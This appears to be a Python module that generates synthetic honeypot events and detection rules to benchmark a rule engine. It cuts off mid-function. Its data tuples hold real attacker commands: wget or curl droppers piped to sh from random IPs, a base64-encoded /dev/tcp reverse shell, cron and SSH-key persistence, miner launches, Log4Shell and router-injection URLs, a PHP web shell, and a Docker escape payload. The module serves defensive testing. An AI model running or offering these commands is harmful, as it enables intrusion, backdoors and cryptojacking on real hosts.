"""Synthetic, deterministic workload for the engine benchmark.

Three generators, all driven by a seed so two runs see identical data:

* `generate_events`: honeypot events with a realistic mix of source kinds (mostly SSH/Telnet
  commands and login attempts, then web requests, some raw payloads and e-mails), built from
  what internet-facing honeypots actually record: recon one-liners, dropper chains, miners,
  cron and SSH-key persistence, hex echo chains, scanner paths and exploit probes.
* `generate_rules`: rule files (YAML text; see docs/rules.md) with realistic-looking regular
  expressions over every source kind and field, to grow a rule set past the starter pack.
* `attack_strings`: pathological inputs for one pattern (long runs of the characters its
  quantifiers accept, repeated literal fragments, near-miss repetitions, random text over
  its alphabet) used to look for slow evaluations.
"""

from __future__ import annotations

import base64
import functools
import random
import re
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from re import _constants as sre_c  # type: ignore[attr-defined]
from re import _parser as sre_parse  # type: ignore[attr-defined]
from typing import Any, Final

Event = dict[str, Any]

KIND_WEIGHTS: Final[dict[str, float]] = {
    "auth_attempt": 0.50,
    "command": 0.30,
    "http_request": 0.12,
    "payload": 0.05,
    "email": 0.03,
}
"""Share of each source kind in the corpus (an SSH/Telnet-heavy honeypot fleet)."""

# --------------------------------------------------------------------------------------------
# Vocabulary
# --------------------------------------------------------------------------------------------

_MDRFCKR_KEY: Final = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbU"
    "T0b"
    "UanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9"
    "FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zY"
    "kFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw="
    "= mdrfckr"
)

_RECON: Final = (
    "uname -a",
    "uname -s -v -n -r -m",
    "uname -m",
    "nproc",
    "w",
    "whoami",
    "id",
    "uptime",
    "ifconfig",
    "ip a",
    "cat /etc/issue",
    "cat /etc/os-release",
    "crontab -l",
    "which ls",
    "ls -lh $(which ls)",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ps aux | grep -v grep | grep -c {proc}",
    "top -bn1 | head -n 15",
    "cat /proc/mounts; /bin/busybox {tag}",
    "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
    "echo 1 && cat /bin/echo",
    "getconf LONG_BIT",
    "hostname -I",
    "last -n 5",
    "netstat -plant | grep ESTABLISHED",
)

_TELNET_PROMPTS: Final = ("enable", "system", "shell", "sh", "linuxshell", "start", "ping ;sh")

_DROPPERS: Final = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{ip}/{bin}.sh; "
    "chmod 777 {bin}.sh; sh {bin}.sh; tftp {ip} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
    "tftp -r tftp2.sh -g {ip}; chmod 777 tftp2.sh; sh tftp2.sh; "
    "rm -rf {bin}.sh tftp1.sh tftp2.sh *",
    "cd /tmp; wget -q http://{ip}:{port}/{bin} -O .{bin}; chmod +x .{bin}; ./.{bin} {arch}",
    "curl -s http://{ip}/{bin}.sh | bash",
    "(curl -fsSL http://{ip}/{bin}.sh || wget -q -O- http://{ip}/{bin}.sh) | sh",
    "cd /dev/shm; busybox wget http://{ip}/{bin}.{arch}; chmod 777 {bin}.{arch}; "
    "./{bin}.{arch} ssh",
    "wget http://{host}/{bin}.tgz && tar xzf {bin}.tgz && cd .{bin} && ./run &",
    "nohup curl -o /tmp/{bin} http://{ip}/{bin} >/dev/null 2>&1 && chmod +x /tmp/{bin} && "
    "/tmp/{bin} &",
    "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{ip}/{bin}.py').read())\"",
)

_MINERS: Final = (
    "./xmrig -o stratum+tcp://{pool}:3333 -u {wallet} -p x -k --donate-level 1 -B",
    "nohup ./{bin} -o {pool}:443 --tls -u {wallet} --cpu-max-threads-hint=75 >/dev/null 2>&1 &",
    "curl -s -L https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh"
    " | bash -s {wallet}",
    "pkill -9 kdevtmpfsi; pkill -9 kinsing; pkill -f xmrig; killall -9 {proc}",
    "chattr -ia /etc/ld.so.preload; echo '' > /etc/ld.so.preload; pkill -9 {proc}",
)

_PERSISTENCE: Final = (
    '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://{ip}/{bin}.sh | sh") | crontab -',
    'echo "* * * * * root /tmp/.{bin}/upd >/dev/null 2>&1" >> /etc/crontab',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "' + _MDRFCKR_KEY + '">>.ssh/authorized_keys && '
    "chmod -R go= ~/.ssh && cd ~",
    'echo "root:{password}"|chpasswd|bash',
    'echo -e "{password}\\n{password}" | passwd',
    "useradd -m -s /bin/bash {user} && echo '{user}:{password}' | chpasswd && "
    "usermod -aG sudo {user}",
    "echo '/tmp/.{bin}/{bin} &' >> /etc/rc.local",
    "history -c; rm -rf ~/.bash_history; unset HISTFILE",
    "chattr +i ~/.ssh/authorized_keys",
)

_BENIGN: Final = (
    "ls -la",
    "cd /var/log && ls -lart | tail -20",
    "export LANG=C; cd /var/www/html && git pull origin main && composer install --no-dev "
    "--optimize-autoloader && php artisan migrate --force && php artisan cache:clear && "
    "php artisan config:cache && php artisan route:cache && sudo systemctl reload php8.1-fpm",
    "sudo apt-get update && sudo apt-get -y upgrade && sudo apt-get -y install build-essential "
    "libssl-dev libffi-dev python3-dev python3-venv git htop tmux vim jq unzip",
    'for f in /var/log/nginx/*.log.1; do gzip -9 "$f"; done; find /var/log -name "*.gz" -mtime +30 '
    "-delete; du -sh /var/log/* | sort -h | tail -n 10",
    "df -h; du -sh /home/*; ls -la /opt; cat /etc/hostname; date; tail -n 50 /var/log/syslog",
    "cat ~/.bashrc",
    "vim /etc/nginx/sites-available/default",
    "docker ps -a --format '{{.Names}}\\t{{.Status}}' | sort",
    "tar -czf /backup/www-$(date +%F).tar.gz /var/www && ls -lh /backup | tail -n 3",
    "grep -rn 'TODO' --include=*.py . | head -n 40",
    "exit",
    "cd /tmp",
    "echo ok",
    "pwd",
)

_AUTH_USERS: Final = (
    "root",
    "root",
    "root",
    "root",
    "admin",
    "admin",
    "user",
    "test",
    "ubuntu",
    "oracle",
    "postgres",
    "pi",
    "git",
    "ftpuser",
    "support",
    "guest",
    "debian",
    "centos",
    "hadoop",
    "deploy",
    "ubnt",
    "administrator",
    "nagios",
    "mysql",
    "www-data",
    "jenkins",
    "minecraft",
    "steam",
    "es",
    "dev",
    "sa",
    "teamspeak",
    "zabbix",
    "odoo",
    "user1",
    "operator",
    "default",
)
_FIRST_NAMES: Final = (
    "john",
    "david",
    "michael",
    "alex",
    "anna",
    "maria",
    "peter",
    "paul",
    "mark",
    "james",
    "robert",
    "linda",
    "susan",
    "kevin",
    "jason",
    "eric",
    "brian",
    "lisa",
    "sara",
    "tom",
    "chris",
    "daniel",
    "li",
    "wang",
    "zhang",
    "chen",
    "liu",
    "yang",
    "huang",
    "zhao",
    "wu",
    "zhou",
    "ahmed",
    "ali",
    "mohamed",
    "ivan",
    "sergey",
    "dmitry",
    "olga",
    "natalia",
    "pierre",
    "julien",
    "hans",
    "stefan",
    "carlos",
    "jose",
    "luis",
    "juan",
    "pedro",
    "rafael",
    "andrea",
    "marco",
    "luca",
    "giulia",
)
_SERVICE_USERS: Final = (
    "apache",
    "nginx",
    "httpd",
    "ftp",
    "www",
    "web",
    "mail",
    "postfix",
    "dovecot",
    "bind",
    "named",
    "squid",
    "proxy",
    "vpn",
    "openvpn",
    "asterisk",
    "sip",
    "voip",
    "cacti",
    "munin",
    "icinga",
    "prometheus",
    "grafana",
    "influx",
    "mongo",
    "mongodb",
    "couchdb",
    "cassandra",
    "rabbitmq",
    "zookeeper",
    "spark",
    "flink",
    "airflow",
    "superset",
    "odoo",
    "erp",
    "crm",
    "svn",
    "gitlab",
    "backup",
    "bkp",
    "rsync",
    "nas",
    "plex",
    "kodi",
    "samba",
    "nfs",
    "ldap",
    "kerberos",
)
_PASSWORDS: Final = (
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "123456789",
    "qwerty",
    "1234",
    "12345",
    "P@ssw0rd",
    "raspberry",
    "toor",
    "admin123",
    "1qaz2wsx",
    "abc123",
    "111111",
    "changeme",
    "passw0rd",
    "Aa123456",
    "root123",
    "ubnt",
    "default",
    "vizxv",
    "xc3511",
    "888888",
    "Welcome1",
    "test",
    "guest",
    "letmein",
    "dragon",
    "monkey",
    "iloveyou",
    "Password1",
)

_MALWARE_BINS: Final = (
    "bins",
    "mips",
    "arm7",
    "x86",
    "sora",
    "mirai",
    "okami",
    "hakai",
    "tsunami",
    "kaiten",
    "dbused",
    "kswapd0",
    "sysupdate",
    "networkservice",
    "kdevtmpfsi",
    "kinsing",
    "zzh",
    "xmr",
    "redtail",
    "gafgyt",
    "yakuza",
    "jaws",
    "Fourloko",
    "lol",
    "update",
    "ssh1",
    "watchdog",
)
_ARCHES: Final = (
    "x86",
    "x86_64",
    "arm",
    "arm5",
    "arm6",
    "arm7",
    "mips",
    "mpsl",
    "ppc",
    "m68k",
    "sh4",
)
_POOLS: Final = (
    "pool.supportxmr.com",
    "xmr.2miners.com",
    "gulf.moneroocean.stream",
    "pool.minexmr.com",
    "auto.c3pool.org",
    "xmr-eu1.nanopool.org",
    "pool.hashvault.pro",
    "randomx.xmrig.com",
)
_PROCS: Final = (
    "xmrig",
    "kinsing",
    "kdevtmpfsi",
    "dbused",
    "kswapd0",
    "sysupdate",
    "watchbog",
    "minerd",
)
_HOSTS: Final = (
    "cdn.update-server.top",
    "files.kissmyass.xyz",
    "dl.sys-cdn.net",
    "static.iot-fw.cc",
    "raw.pastebin.live",
    "get.linuxrepo.org",
)

_SCAN_PATHS: Final = (
    "/",
    "/",
    "/",
    "/robots.txt",
    "/favicon.ico",
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-admin/admin-ajax.php",
    "/phpmyadmin/index.php",
    "/pma/index.php",
    "/HNAP1/",
    "/actuator/health",
    "/actuator/env",
    "/solr/admin/info/system?wt=json",
    "/owa/auth/logon.aspx",
    "/manager/html",
    "/.aws/credentials",
    "/server-status",
    "/console/",
    "/api/v1/pods",
    "/login",
    "/admin",
    "/index.html",
    "/config.json",
    "/.DS_Store",
    "/sitemap.xml",
    "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
    "/cgi-bin/test.cgi",
    "/vpn/index.html",
    "/geoserver/web/",
    "/_profiler/phpinfo",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/static/js/main.js",
    "/assets/css/site.css",
)
_EXPLOIT_URLS: Final = (
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/jaws;sh+/tmp/jaws",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://{ip}/t+-O-|sh`)",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/GponForm/diag_Form?images/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"
    "&vars[1][]=HelloThinkPHP21",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}/Mozi.m+-O"
    "+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
    "/index.php?page=../../../../../../etc/passwd",
    "/search?q=1%27%20UNION%20SELECT%20NULL,NULL,version()--%20-",
    "/api/jsonws/invoke",
    "/Autodiscover/Autodiscover.xml",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F{ip}"
    "%2Ftvt.sh%3Bchmod%20777%20tvt.sh%3Bsh%20tvt.sh",
)
_USER_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times "
    "per day to identify customers' presences on the Internet.",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/74.0.3729.169 Safari/537.36 Nuclei",
    "Hello World",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
)

_BROWSER_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 "
    "Mobile Safari/537.36",
)
_PAYLOADS: Final = (
    ("*1\r\n$4\r\nINFO\r\n", 6379),
    ("*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n", 6379),
    ("GET / HTTP/1.1\r\nHost: {ip}:{port}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n", 8080),
    ("MGLNDD_{ip}_{port}\n", 22),
    (
        "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"
        "\x01\x00\x08\x00\x03\x00"
        "\x00\x00",
        3389,
    ),
    (
        "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n"
        "From: <sip:nm@nm>;tag=root\r\n",
        5060,
    ),
    (
        "CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x002\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00",
        5555,
    ),
    (
        "POST /containers/create HTTP/1.1\r\nHost: {ip}:2375\r\n"
        "Content-Type: application/json\r\n\r\n"
        '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl -s http://{ip}/d.sh|sh"],'
        '"HostConfig":{"Binds":["/:/mnt"]}}',
        2375,
    ),
    ("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "\x00" * 24, 443),
    ("SSH-2.0-Go\r\n", 22),
    ("\r\n\r\n", 23),
    ("stats\r\n", 11211),
)

_EMAILS: Final = (
    (
        "Invoice #{n} overdue - action required",
        "billing@{dom}",
        "Please find the attached invoice.",
        "Invoice_{n}.pdf.exe",
    ),
    (
        "Your mailbox is almost full",
        "it-support@{dom}",
        "Your mailbox has reached 98% of its quota. Click http://{ip}/owa/verify to upgrade.",
        None,
    ),
    (
        "Password expires today",
        "no-reply@{dom}",
        "Reset your password at https://login-{dom}/reset?u=admin within 24 hours.",
        None,
    ),
    ("Re: meeting notes", "alice@{dom}", "Thanks, see you on Thursday.", "notes.docx"),
    ("Weekly newsletter", "news@{dom}", "Top stories this week: release 3.2 is out.", None),
    ("Shipment notification DHL", "dhl@{dom}", "Your parcel could not be delivered.", "label.zip"),
    ("Purchase order", "sales@{dom}", "Kindly confirm the PO attached.", "PO_{n}.xlsm"),
)
_DOMAINS: Final = (
    "example.com",
    "corp-mail.net",
    "mailer.io",
    "secure-docs.top",
    "office365-auth.xyz",
)


# --------------------------------------------------------------------------------------------
# Events
# --------------------------------------------------------------------------------------------


def _ip(rng: random.Random) -> str:
    return ".".join(str(rng.randint(1, 254)) for _ in range(4))


def _fill(template: str, rng: random.Random) -> str:
    """Replace the `{name}` slots of a template with random but plausible values."""
    values = {
        "ip": _ip(rng),
        "port": str(rng.choice((80, 8080, 8000, 443, 1337, 4444, 5555, 6666, 8888))),
        "bin": rng.choice(_MALWARE_BINS),
        "arch": rng.choice(_ARCHES),
        "pool": rng.choice(_POOLS),
        "proc": rng.choice(_PROCS),
        "host": rng.choice(_HOSTS),
        "wallet": "4" + "".join(rng.choices(string.ascii_letters + string.digits, k=94)),
        "password": rng.choice(_PASSWORDS)
        + "".join(rng.choices(string.ascii_letters, k=rng.randint(0, 6))),
        "user": rng.choice(("sysadm", "backup", "support1", "ftp_user", "x")),
        "tag": "".join(rng.choices(string.ascii_uppercase, k=5)),
        "n": str(rng.randint(1000, 99999)),
        "dom": rng.choice(_DOMAINS),
    }
    return re.sub(r"\{(\w+)\}", lambda m: values.get(m.group(1), m.group(0)), template)


def _echo_chain(rng: random.Random) -> str:
    """A Mirai-style hex echo chain writing an ELF file, 1 to 4 KB long."""
    name = rng.choice((".s", ".d", "dvrHelper", ".x"))
    chunks = [f">{name}; "]
    for _ in range(rng.randint(4, 16)):
        data = "".join(f"\\x{rng.randrange(256):02x}" for _ in range(rng.randint(40, 64)))
        chunks.append(f"echo -ne '{data}' >> {name}; ")
    chunks.append(f"chmod 777 {name}; ./{name} telnet.{rng.choice(_ARCHES)}")
    return "".join(chunks)


def _b64_stager(rng: random.Random) -> str:
    inner = f"bash -i >& /dev/tcp/{_ip(rng)}/{rng.choice((4444, 1337, 9001))} 0>&1"
    blob = base64.b64encode(inner.encode()).decode()
    return rng.choice((f"echo {blob} | base64 -d | bash", f"echo '{blob}'|base64 --decode|sh"))


def _command(rng: random.Random) -> dict[str, Any]:
    roll = rng.random()
    if roll < 0.16:
        text = _fill(rng.choice(_RECON), rng)
    elif roll < 0.22:
        text = rng.choice(_TELNET_PROMPTS)
    elif roll < 0.72:
        text = _fill(rng.choice(_BENIGN), rng)
    elif roll < 0.80:
        text = _fill(rng.choice(_DROPPERS), rng)
    elif roll < 0.85:
        text = _fill(rng.choice(_PERSISTENCE), rng)
    elif roll < 0.88:
        text = _fill(rng.choice(_MINERS), rng)
    elif roll < 0.93:
        text = _echo_chain(rng)
    elif roll < 0.96:
        text = _b64_stager(rng)
    else:
        text = " && ".join(_fill(rng.choice(_RECON), rng) for _ in range(rng.randint(3, 8)))
    return {
        "command_text": text,
        "username": rng.choice(_AUTH_USERS),
        "protocol": rng.choice(("ssh", "ssh", "ssh", "telnet")),
    }


def _long_tail_username(rng: random.Random) -> str:
    """A username from the long tail of brute-force dictionaries (most attempts use one)."""
    roll = rng.random()
    name = rng.choice(_FIRST_NAMES)
    if roll < 0.35:
        return name
    if roll < 0.55:
        return f"{name}{rng.randint(1, 2025)}"
    if roll < 0.70:
        return rng.choice(_SERVICE_USERS) + rng.choice(("", "1", "2", "_adm", "-dev", "01"))
    if roll < 0.85:
        return f"{name[0]}.{rng.choice(_FIRST_NAMES)}"
    return "".join(rng.choices(string.ascii_lowercase + string.digits, k=rng.randint(3, 10)))


def _long_tail_password(rng: random.Random, username: str) -> str:
    roll = rng.random()
    word = rng.choice(_FIRST_NAMES + _SERVICE_USERS)
    if roll < 0.30:
        return f"{word}{rng.choice(('', '!', '@', '#'))}{rng.randint(0, 9999)}"
    if roll < 0.45:
        return f"{username}{rng.choice(('123', '@123', '2024', '!', '1234', '_pass'))}"
    if roll < 0.60:
        return f"{word.capitalize()}@{rng.randint(2015, 2025)}"
    if roll < 0.75:
        return rng.choice(
            ("qazwsx", "zxcvbnm", "asdfgh", "1q2w3e", "q1w2e3r4t5", "!QAZ2wsx")
        ) + str(rng.randint(0, 99))
    return "".join(
        rng.choices(string.ascii_letters + string.digits + "!@#$%", k=rng.randint(6, 16))
    )


def _auth(rng: random.Random) -> dict[str, Any]:
    username = rng.choice(_AUTH_USERS) if rng.random() < 0.10 else _long_tail_username(rng)
    password = rng.choice(_PASSWORDS) if rng.random() < 0.08 else _long_tail_password(rng, username)
    return {
        "username": username,
        "password": password,
        "protocol": rng.choice(("ssh", "ssh", "ssh", "telnet", "ftp", "smb", "mysql", "rdp")),
        "success": rng.random() < 0.02,
    }


def _http(rng: random.Random) -> dict[str, Any]:
    if rng.random() < 0.22:
        raw_url = _fill(rng.choice(_EXPLOIT_URLS), rng)
    else:
        raw_url = rng.choice(_SCAN_PATHS)
    method = rng.choices(("GET", "POST", "HEAD", "OPTIONS", "PUT"), (80, 12, 5, 2, 1))[0]
    headers = {
        "host": _ip(rng),
        "user-agent": rng.choice(_BROWSER_AGENTS)
        if rng.random() < 0.6
        else rng.choice(_USER_AGENTS),
        "accept": "*/*",
        "connection": rng.choice(("close", "keep-alive")),
    }
    if rng.random() < 0.04:
        headers["x-api-version"] = (
            "${jndi:ldap://" + _ip(rng) + ":1389/Basic/Command/Base64/d2dldA==}"
        )
    body = ""
    if method in ("POST", "PUT"):
        headers["content-type"] = "application/x-www-form-urlencoded"
        body = rng.choice(
            (
                "log=admin&pwd=admin123&wp-submit=Log+In",
                "<?php system($_GET['c']); ?>",
                '{"username":"admin","password":"admin"}',
                "<methodCall><methodName>system.multicall</methodName><params></params></methodCall>",
                "cmd=wget+http://" + _ip(rng) + "/x.sh+-O-|sh",
            )
        )
    return {
        "method": method,
        "raw_url": raw_url,
        "path": raw_url.split("?", 1)[0],
        "headers": headers,
        "body": body,
    }


def _payload(rng: random.Random) -> dict[str, Any]:
    template, port = rng.choice(_PAYLOADS)
    return {
        "payload_text": _fill(template, rng),
        "protocol": "tcp" if port != 5060 else "udp",
        "dst_port": port,
    }


def _email(rng: random.Random) -> dict[str, Any]:
    subject, sender, body, attachment = rng.choice(_EMAILS)
    attachments = [] if attachment is None else [_fill(attachment, rng)]
    return {
        "subject": _fill(subject, rng),
        "from": _fill(sender, rng),
        "to": f"{rng.choice(('admin', 'info', 'hr', 'ceo'))}@victim-corp.com",
        "body": _fill(body, rng),
        "attachments": attachments,
    }


PAYLOAD_BUILDERS: Final[dict[str, Callable[[random.Random], dict[str, Any]]]] = {
    "command": _command,
    "auth_attempt": _auth,
    "http_request": _http,
    "payload": _payload,
    "email": _email,
}


def generate_events(count: int, seed: int = 1) -> list[Event]:
    """`count` events `{source_kind, source_id, payload}`, identical for the same seed."""
    rng = random.Random(seed)
    kinds = list(KIND_WEIGHTS)
    weights = list(KIND_WEIGHTS.values())
    events: list[Event] = []
    for number in range(count):
        kind = rng.choices(kinds, weights)[0]
        events.append(
            {
                "source_kind": kind,
                "source_id": f"{kind}_{number}",
                "payload": PAYLOAD_BUILDERS[kind](rng),
            }
        )
    return events


def base_payload(kind: str, seed: int = 0) -> dict[str, Any]:
    """One realistic payload of `kind`, to carry a pathological value in one of its fields."""
    return PAYLOAD_BUILDERS[kind](random.Random(seed))


# --------------------------------------------------------------------------------------------
# Rules
# --------------------------------------------------------------------------------------------

_TOOLS: Final = (
    "nmap",
    "masscan",
    "zmap",
    "hydra",
    "medusa",
    "ncrack",
    "sqlmap",
    "nikto",
    "gobuster",
    "socat",
    "ncat",
    "netcat",
    "tcpdump",
    "tshark",
    "proxychains",
    "torsocks",
    "chisel",
    "frpc",
    "ngrok",
    "gsocket",
    "tmate",
    "mimipenguin",
    "linpeas",
    "pspy",
    "lazagne",
    "john",
    "hashcat",
    "msfconsole",
    "msfvenom",
    "sliver",
    "havoc",
    "pwncat",
    "rustscan",
    "zgrab2",
    "httpx",
    "nuclei",
)
_FILES: Final = (
    "shadow",
    "passwd",
    "sudoers",
    "group",
    "gshadow",
    "hosts",
    "resolv.conf",
    "crontab",
    "ld.so.preload",
    "rc.local",
    "profile",
    "bashrc",
    "authorized_keys",
    "id_rsa",
    "known_hosts",
    "environ",
    "cmdline",
    "maps",
    "cpuinfo",
    "meminfo",
    "mounts",
    "version",
)
_WEB_DIRS: Final = (
    "wp-admin",
    "wp-content",
    "wp-includes",
    "phpmyadmin",
    "pma",
    "myadmin",
    "cgi-bin",
    "admin",
    "administrator",
    "api",
    "vendor",
    "uploads",
    "backup",
    "old",
    "test",
    "dev",
    "shell",
    "manager",
    "console",
    "solr",
    "jenkins",
    "actuator",
    "boaform",
    "GponForm",
    "HNAP1",
    "goform",
    "setup",
)
_WEB_FILES: Final = (
    "shell",
    "cmd",
    "upload",
    "config",
    "setup",
    "install",
    "index",
    "login",
    "eval-stdin",
    "connector",
    "wso",
    "c99",
    "r57",
    "alfa",
    "b374k",
    "adminer",
    "info",
    "phpinfo",
    "test",
    "backup",
    "db",
    "debug",
    "xmlrpc",
    "ajax",
    "diag_Form",
    "formLogin",
    "apply",
    "exec",
)
_PARAMS: Final = (
    "cmd",
    "exec",
    "command",
    "c",
    "q",
    "page",
    "file",
    "path",
    "url",
    "redirect",
    "next",
    "include",
    "template",
    "lang",
    "id",
    "action",
    "op",
    "f",
    "dir",
    "src",
)
_SCANNER_UAS: Final = (
    "zgrab",
    "masscan",
    "nmap",
    "nikto",
    "sqlmap",
    "nuclei",
    "censysinspect",
    "expanse",
    "internetmeasurement",
    "l9explore",
    "odin",
    "netsystemsresearch",
    "fuzz faster u fool",
    "gobuster",
    "dirbuster",
    "wpscan",
    "libwww-perl",
    "httpx",
    "zoomeye",
    "shodan",
    "binaryedge",
    "leakix",
    "paloaltonetworks",
    "keydrop",
    "hakai",
    "muhstik",
    "xfa1",
    "jaeles",
    "acunetix",
)
_RARE_USERS: Final = (
    "supervisor",
    "telecomadmin",
    "Administrator",
    "vstarcam2015",
    "ZXDSL",
    "e8ehome",
    "e8telnet",
    "root1",
    "admin1234",
    "mg3500",
    "hikvision",
    "service",
    "tech",
    "vagrant",
    "ansible",
    "kafka",
    "redis",
    "ts3",
    "csgo",
    "mother",
    "daemon",
    "nobody",
    "uucp",
    "adm",
    "Cisco",
    "manager",
    "monitor",
    "db2inst1",
    "weblogic",
    "tomcat",
    "solr",
    "elastic",
    "sonar",
    "gitlab-runner",
)
_REDIS_CMDS: Final = (
    "CONFIG",
    "SLAVEOF",
    "REPLICAOF",
    "MODULE",
    "EVAL",
    "FLUSHALL",
    "SAVE",
    "INFO",
)
_PHISH_WORDS: Final = (
    ("invoice", "payment", "remittance", "receipt", "statement", "purchase order"),
    ("overdue", "due", "pending", "failed", "required", "attached", "confirmation"),
)
_EXTENSIONS: Final = (
    "exe",
    "scr",
    "js",
    "jse",
    "vbs",
    "vbe",
    "hta",
    "iso",
    "img",
    "lnk",
    "xlsm",
    "docm",
    "one",
    "zip",
    "rar",
    "7z",
    "html",
    "htm",
    "svg",
    "chm",
    "cab",
    "msi",
    "bat",
    "cmd",
    "ps1",
    "jar",
)
_SYLLABLES: Final = (
    "ka",
    "zu",
    "rex",
    "tor",
    "mi",
    "ra",
    "bot",
    "net",
    "sy",
    "sd",
    "vx",
    "lo",
    "kin",
    "dex",
    "qu",
    "ar",
    "ix",
    "mo",
    "zer",
    "tsu",
    "nam",
    "ok",
    "fu",
    "ga",
    "ha",
    "jin",
    "xo",
    "pa",
    "lu",
)

# (tactic, technique, sub-technique) per family; all exist in ATT&CK 18.
_TECH: Final[dict[str, tuple[str, str, str | None]]] = {
    "tool": ("TA0007", "T1046", None),
    "file_read": ("TA0006", "T1003", "T1003.008"),
    "dropper": ("TA0011", "T1105", None),
    "kill": ("TA0005", "T1562", "T1562.001"),
    "miner": ("TA0040", "T1496", None),
    "persist_init": ("TA0003", "T1037", "T1037.004"),
    "busybox": ("TA0007", "T1082", None),
    "hexecho": ("TA0005", "T1027", None),
    "b64": ("TA0005", "T1140", None),
    "family": ("TA0002", "T1059", "T1059.004"),
    "web_file": ("TA0043", "T1595", "T1595.003"),
    "web_param": ("TA0001", "T1190", None),
    "web_traversal": ("TA0001", "T1190", None),
    "web_sqli": ("TA0001", "T1190", None),
    "web_ua": ("TA0043", "T1595", "T1595.002"),
    "web_body": ("TA0003", "T1505", "T1505.003"),
    "auth_user": ("TA0006", "T1110", "T1110.001"),
    "auth_pass": ("TA0006", "T1110", "T1110.003"),
    "payload_redis": ("TA0002", "T1059", None),
    "payload_proto": ("TA0043", "T1595", "T1595.001"),
    "mail_subject": ("TA0001", "T1566", "T1566.001"),
    "mail_attach": ("TA0001", "T1566", "T1566.001"),
    "mail_from": ("TA0001", "T1566", "T1566.002"),
}


@dataclass(frozen=True, slots=True)
class GeneratedRule:
    """One generated rule: its id, what it reads, its pattern and the YAML file text."""

    rule_id: str
    kind: str
    field: str
    pattern: str
    family: str
    yaml_text: str


def _family_name(rng: random.Random) -> str:
